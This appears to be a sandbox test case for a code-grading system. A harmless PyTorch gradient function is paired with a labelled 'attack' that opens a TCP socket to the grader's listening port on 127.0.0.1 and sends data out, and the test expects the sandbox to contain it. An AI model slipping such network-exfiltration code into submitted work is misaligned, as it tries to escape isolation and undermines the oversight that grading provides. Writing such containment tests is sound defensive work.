# attack: open a TCP connection to a port the grading machine listens on at 127.0.0.1 and send data out
# expect-status: passed
# needs: namespaces
import socket

import torch

try:
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as connection:
        connection.sendall(b"exfiltrated over tcp")
    print("CONNECTED")
except OSError as exc:
    print("refused", exc.errno)


def q_backward(a, b):
    Q = 3 * a**3 - b**2
    Q.backward(torch.ones_like(Q))
    return Q
